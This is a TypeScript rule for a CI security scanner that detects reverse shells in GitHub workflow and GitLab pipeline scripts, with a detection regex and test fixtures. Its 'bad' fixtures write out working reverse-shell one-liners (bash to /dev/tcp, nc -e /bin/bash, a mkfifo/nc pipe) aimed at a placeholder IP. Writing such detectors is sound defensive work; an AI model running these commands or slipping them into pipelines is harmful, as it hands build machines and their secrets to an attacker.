import { fileRule } from '../../../engine/rule.ts';
import { stepsWith } from '../examples.ts';
import { pipelineOf } from '../pipeline-file.ts';
import { type Placed, stepsOf, workflowOf } from '../workflow-file.ts';

/** A shell whose words come from, and go to, another machine. */
const shells =
  /\b(?:ba|da|k|z)?sh\s+-i\b[^\n]{0,80}\/dev\/(?:tcp|udp)\/|\bexec\s+\d<>\s?\/dev\/tcp\/|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s(?:-\w{0,8}[ec]|--exec|--sh-exec)\s+["']?(?:\/\w+)*\/?(?:ba|z|da)?sh\b|\b(?:ba|da|k|z)?sh\s+-i\b[^\n]{0,40}\|\s?(?:nc|ncat|netcat)\b/;

export const reverseShell = fileRule({
  id: 'workflow/reverse-shell',
  title: 'Shell handed to another machine',
  severity: 'critical',
  confidence: 'likely',
  weakness: ['CWE-506'],
  kind: 'security',
  what: 'A script of a workflow or pipeline connects a shell to the network (`bash -i >& /dev/tcp/…`, `nc -e /bin/sh`).',
  why: 'Whoever listens there commands the machine that builds, with its tokens and secrets: this is how poisoned workflows begin.',
  fix: 'Take it out, find out who put it there, and renew every secret the job had.',
  aliases: ['CKV_GHA_4'],
  bad: [
    stepsWith('- run: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'),
    stepsWith('- run: nc 203.0.113.7 4444 -e /bin/bash'),
    {
      '.gitlab-ci.yml':
        'a:\n  script:\n    - mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n',
    },
  ],
  good: [
    stepsWith('- run: |', '    nc -z localhost 5432', '    (echo > /dev/tcp/localhost/80) && bash -i a.sh'),
  ],
  wants: ['workflow', 'pipeline'],
  check(file, report) {
    const scripts: readonly (Placed | null)[] =
      file.type === 'workflow' ? stepsOf(workflowOf(file)).map(({ run }) => run) : pipelineOf(file).scripts;
    for (const script of scripts)
      if (script && shells.test(script.text))
        report({ start: script.start, end: script.end, message: 'A shell is handed to another machine' });
  },
});
